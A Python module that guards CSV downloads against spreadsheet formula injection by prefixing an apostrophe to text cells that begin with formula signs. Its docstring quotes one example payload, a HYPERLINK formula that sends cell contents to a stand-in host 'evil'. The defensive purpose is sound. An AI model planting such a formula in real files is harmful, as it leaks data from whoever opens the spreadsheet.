"""CSV files for download that a spreadsheet cannot turn into formulas (CSV / formula injection).

A cell whose text starts with ``=``, ``+``, ``-``, ``@`` (or their full-width forms ``＝ ＋ － ＠``), a tab or
a carriage return — also after leading spaces or line breaks — is read as a formula by Excel, LibreOffice and
Google Sheets: an uploaded ``=HYPERLINK("http://evil/?"&A1, "x")``
that comes back verbatim in a k-anonymity or linkage table would run when the user opens the
download. Following the OWASP recommendation, such text cells get a leading apostrophe ``'`` (shown
as text, never evaluated). Numbers stay numbers: numeric columns are untouched, and a text cell that
is a plain decimal number (``-3``, ``+1.5e3``) is left as it is, since a spreadsheet reads it as that
number, not as a formula. Column names are treated like cells. Text cells are always quoted
(``QUOTE_NONNUMERIC``): pandas' minimal quoting leaves a carriage return inside a cell unquoted, which
splits the row when the file is read back.
"""
from __future__ import annotations

import csv
import re
from typing import Any

import pandas as pd

# The full-width forms (＝ ＋ － ＠) are read as their ASCII twins by spreadsheets with East-Asian input
# settings, so they start a formula too.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# Spreadsheets skip leading blanks before they look for a formula sign: " =1+1" and "\n=1+1" run as well.
_LEADING_BLANKS = " \t\r\n\u00a0\u3000"
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def neutralise(value: Any) -> Any:
    """``value`` with a leading ``'`` if it is text a spreadsheet would evaluate; anything else unchanged.

    Evaluated: text that starts with a formula sign (``= + - @`` or a full-width ``＝ ＋ － ＠``), a tab or a
    carriage return, also after leading spaces or line breaks — except a plain decimal number (``-3``)."""
    if not isinstance(value, str):
        return value
    head = value.lstrip(_LEADING_BLANKS)
    if (value.startswith(TRIGGERS) or head.startswith(TRIGGERS)) and not _PLAIN_NUMBER.match(head):
        return "'" + value
    return value


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells and column names are neutralised; numeric columns unchanged."""
    out = df.copy()
    for col in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[col]) or pd.api.types.is_bool_dtype(out[col])
                or pd.api.types.is_datetime64_any_dtype(out[col])):
            out[col] = out[col].map(neutralise)
    out.columns = [neutralise(str(c)) for c in out.columns]
    return out


def to_csv(df: pd.DataFrame, index: bool = False, **kwargs) -> str:
    """``df`` as CSV text that is safe to open in a spreadsheet."""
    frame = df.reset_index() if index else df
    kwargs.setdefault("quoting", csv.QUOTE_NONNUMERIC)
    return safe_frame(frame).to_csv(index=False, **kwargs)
